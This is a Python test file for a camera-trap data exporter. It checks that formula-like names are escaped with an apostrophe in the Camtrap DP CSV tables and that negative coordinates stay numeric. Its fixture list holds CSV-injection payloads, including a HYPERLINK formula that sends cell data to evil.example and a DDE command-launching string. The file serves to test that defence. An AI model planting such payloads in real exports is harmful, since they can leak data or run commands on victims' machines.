"""Camtrap DP's CSV tables never hand a spreadsheet a formula: a reviewer, ranger or station named like one
("=HYPERLINK(...)", "@SUM(...)", "+1", "-2+3", a leading tab) reaches every table with the same leading
apostrophe the Darwin Core CSV gets (bot/reports/exports/tables.py neutralise), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from bot.reports.exports import export
from bot.reports.exports.camtrapdp.datapackage import TABLES, table_schema
from storage.db import Database
from tests.support.exports import GRID, MONTH
from tests.support.sightings_world import seed
from tests.support.validators import validate_camtrapdp

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+7", "-2+3",
            "\t=1+1", "\r=1+1"]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def db(tmp_path: Path) -> AsyncIterator[Database]:
    async with Database(tmp_path / "f.sqlite3") as database:
        await seed(database)
        yield database


async def hostile_names(db: Database) -> None:
    """Every name a person writes and the export carries: reviewers, rangers, stations."""
    await db.execute("UPDATE reviews SET user_name = ?", (FORMULAS[0],))
    for i, uid in enumerate([r["user_id"] for r in await db.fetchall("SELECT user_id FROM rangers")]):
        await db.execute("UPDATE rangers SET name = ? WHERE user_id = ?", (FORMULAS[1 + i % 5], uid))
    codes = [r["code"] for r in await db.fetchall("SELECT code FROM stations ORDER BY code")]
    for i, code in enumerate(codes):
        await db.execute("UPDATE stations SET name = ? WHERE code = ?", (FORMULAS[i % len(FORMULAS)], code))


def tables(data: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {
            name: list(csv.DictReader(io.StringIO(zf.read(f"{name}.csv").decode("utf-8")))) for name in TABLES
        }


@pytest.mark.parametrize("exact", [True, False])
async def test_no_cell_of_any_table_starts_a_formula(db: Database, exact: bool) -> None:
    await hostile_names(db)
    data = await export(db, "camtrapdp", *MONTH, exact=exact, grid_km=GRID)
    found = tables(data)
    for name, rows in found.items():
        kinds = {f["name"]: f["type"] for f in table_schema(name)["fields"]}
        for row in rows:
            for column, cell in row.items():
                if kinds[column] == "string":
                    assert not cell.startswith(STARTS), (name, column, cell)
    # What was written is still there, behind the apostrophe.
    by = {r["classifiedBy"] for r in found["observations"] if r["classificationMethod"] == "human"}
    assert by == {"'" + FORMULAS[0]}
    if exact:
        names = {r["locationName"] for r in found["deployments"] if r["locationName"]}
        assert names and all(n.startswith("'") and n[1:] in FORMULAS for n in names)


async def test_negative_coordinates_stay_numbers_and_the_package_validates(
    db: Database, tmp_path: Path
) -> None:
    await hostile_names(db)
    await db.execute("UPDATE stations SET lat = -lat, lon = -lon")
    await db.execute("UPDATE sightings SET lat = -lat, lon = -lon WHERE lat IS NOT NULL")
    data = await export(db, "camtrapdp", *MONTH, exact=True, grid_km=GRID)
    validate_camtrapdp(data, tmp_path / "pkg")  # numbers parse as numbers: frictionless checks the types
    deployments = tables(data)["deployments"]
    assert deployments and all(float(d["latitude"]) < 0 and float(d["longitude"]) < 0 for d in deployments)
    assert json.loads(zipfile.ZipFile(io.BytesIO(data)).read("datapackage.json"))["resources"]
